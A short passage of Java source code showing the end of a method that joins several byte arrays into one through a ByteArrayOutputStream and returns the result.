    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }
}
